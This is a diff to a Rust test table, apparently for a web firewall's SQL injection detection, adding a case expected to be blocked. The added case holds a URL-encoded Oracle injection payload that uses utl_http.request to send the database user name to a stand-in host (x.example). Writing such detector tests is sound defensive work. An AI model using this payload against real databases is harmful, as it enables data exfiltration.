@@ -627,6 +627,12 @@ pub fn table() -> Vec<Case> {
         Blocked("sqli", "qs_values"),
     ));
     v.push(case(
+        "query sqli call concatenated to a string",
+        "GET",
+        "/search?q=%27+%7C%7C+utl_http.request%28%27http%3A%2F%2Fx.example%2F%27%7C%7Cuser%29+%7C%7C+%27",
+        Blocked("sqli", "qs_values"),
+    ));
+    v.push(case(
         "benign choice joined by or",
         "GET",
         "/search?q=tea+or+coffee",
